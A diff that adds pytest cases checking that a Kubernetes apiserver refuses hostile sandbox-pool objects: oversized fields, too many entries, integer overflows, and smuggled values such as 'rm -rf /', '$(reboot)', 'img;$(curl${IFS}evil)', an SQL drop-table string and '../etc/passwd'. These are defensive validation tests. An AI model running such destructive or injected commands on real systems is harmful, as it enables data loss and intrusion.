@@ -109,6 +109,117 @@ INVALID: list[tuple[str, Callable[[dict[str, Any]], None], str]] = [
 ]
 
 
+def _regions(count: int) -> list[dict[str, Any]]:
+    return [{"name": f"region-{i}"} for i in range(count)]
+
+
+def _nested(depth: int) -> dict[str, Any]:
+    node: dict[str, Any] = {"leaf": "x"}
+    for _ in range(depth):
+        node = {"deeper": node}
+    return node
+
+
+# Hostile objects: what a careless script or an attacker with create rights might send. Each is refused
+# by the apiserver itself, before the operator ever reads it, with a message that names the field.
+HOSTILE: list[tuple[str, Callable[[dict[str, Any]], None], str]] = [
+    ("huge image", _set("spec.template.image", "a" * 100_000), "spec.template.image: Too long"),
+    (
+        "huge env value",
+        _set("spec.template.env.0.value", "v" * 40_000),
+        "spec.template.env[0].value: Too long",
+    ),
+    ("huge env name", _set("spec.template.env.0.name", "N" * 1_000), "spec.template.env[0].name: Too long"),
+    ("huge zone", _set("spec.regions.0.zones", ["z" * 5_000]), "spec.regions[0].zones[0]: Too long"),
+    ("too many regions", _set("spec.regions", _regions(33)), "spec.regions: Too many: 33"),
+    (
+        "too many zones",
+        _set("spec.regions.0.zones", [f"z{i}" for i in range(17)]),
+        "spec.regions[0].zones: Too many",
+    ),
+    (
+        "too many env vars",
+        _set("spec.template.env", [{"name": f"V{i}", "value": "1"} for i in range(129)]),
+        "spec.template.env: Too many: 129",
+    ),
+    (
+        "too many node selector labels",
+        _set("spec.template.nodeSelector", {f"k{i}": "v" for i in range(65)}),
+        "spec.template.nodeSelector: Too many: 65",
+    ),
+    (
+        "too many tolerations",
+        _set("spec.template.tolerations", [{"operator": "Exists"}] * 65),
+        "spec.template.tolerations: Too many: 65",
+    ),
+    (
+        "deeply nested toleration",
+        _set("spec.template.tolerations", [{"key": "k", "extra": _nested(60)}]),
+        'unknown field "spec.template.tolerations[0].extra"',
+    ),
+    (
+        "object where a string belongs",
+        _set("spec.template.tolerations", [{"key": _nested(5)}]),
+        "spec.template.tolerations[0].key",
+    ),
+    ("negative minWarm", _set("spec.regions.0.minWarm", -1), "spec.regions[0].minWarm: Invalid value: -1"),
+    ("negative weight", _set("spec.regions.0.weight", -5), "spec.regions[0].weight: Invalid value: -5"),
+    ("replicas past int32", _set("spec.replicas", 2**31), "spec.replicas: Invalid value: 2147483648"),
+    ("replicas past int64", _set("spec.replicas", 2**70), "spec.replicas"),
+    ("minWarm past int32", _set("spec.regions.2.minWarm", 2**40), "spec.regions[2].minWarm: Invalid value"),
+    ("fractional replicas", _set("spec.replicas", 1.5), "spec.replicas: Invalid value"),
+    ("replicas as a string", _set("spec.replicas", "12; rm -rf /"), "spec.replicas: Invalid value"),
+    (
+        "TTL past a week",
+        _set("spec.lease", {"defaultTTLSeconds": 2**31 - 1, "maxTTLSeconds": 2**31 - 1}),
+        "spec.lease.maxTTLSeconds: Invalid value",
+    ),
+    ("injection in a region", _set("spec.regions.0.name", "us'; DROP TABLE pods;--"), "spec.regions[0].name"),
+    ("injection in a zone", _set("spec.regions.0.zones", ["$(reboot)"]), "spec.regions[0].zones[0]"),
+    ("injection in the image", _set("spec.template.image", "img;$(curl${IFS}evil)"), "spec.template.image"),
+    ("shell in an env name", _set("spec.template.env.0.name", "A=$(id)"), "spec.template.env[0].name"),
+    ("newline in the image", _set("spec.template.image", "img\nINJECTED: 1"), "spec.template.image"),
+    ("path in the runtime class", _set("spec.template.runtimeClassName", "../../runc"), "runtimeClassName"),
+    (
+        "unknown toleration effect",
+        _set("spec.template.tolerations", [{"key": "k", "effect": "Evict"}]),
+        'spec.template.tolerations[0].effect: Unsupported value: "Evict"',
+    ),
+    ("pool name longer than a label value", _set("metadata.name", "p" * 64), "at most 63 characters"),
+]
+
+
+@pytest.mark.parametrize(("case", "mutate", "message"), HOSTILE, ids=[c[0] for c in HOSTILE])
+def test_hostile_pool_is_rejected_with_a_clear_message(
+    kube: Kubectl, case: str, mutate: Callable[[dict[str, Any]], None], message: str
+) -> None:
+    pool = copy.deepcopy(example(name="bad"))
+    mutate(pool)
+    error = kube.create_error(pool)
+    assert message in error, f"{case}: kubectl said {error[:2000]!r}"
+    assert len(error) < 20_000, "the message repeats the whole hostile value back"
+
+
+@pytest.mark.parametrize(
+    "name", ["pool;rm -rf /", "../etc/passwd", "Pool", "pool\u0000", "a" * 254, "<script>"], ids=repr
+)
+def test_hostile_names_are_refused_by_the_apiserver(kube: Kubectl, name: str) -> None:
+    error = kube.create_error(example(name=name))
+    assert "metadata.name" in error or "name" in error.lower(), error[:2000]
+
+
+def test_the_largest_legal_pool_is_accepted(kube: Kubectl) -> None:
+    """The limits are limits, not lower than what a big real pool needs."""
+    pool = example(name="p" * 63)
+    pool["spec"]["replicas"] = 100_000
+    pool["spec"]["regions"] = [{"name": f"region-{i}", "maxSandboxes": 100_000} for i in range(32)]
+    pool["spec"]["template"]["env"] = [{"name": f"V{i}", "value": "x" * 200} for i in range(128)]
+    pool["spec"]["template"]["tolerations"] = [{"key": "gpu", "operator": "Exists", "effect": "NoSchedule"}]
+    pool["spec"]["template"]["nodeSelector"] = {"sandfleet.dev/pool": "yes"}
+    pool["spec"]["template"]["image"] = "registry.example.com:5000/team/sandbox:1.2.3@sha256:" + "a" * 64
+    kube("create", "-f", "-", stdin=json.dumps(pool))
+
+
 @pytest.mark.parametrize(("case", "mutate", "message"), INVALID, ids=[c[0] for c in INVALID])
 def test_invalid_pool_is_rejected_with_a_clear_message(
     kube: Kubectl, case: str, mutate: Callable[[dict[str, Any]], None], message: str
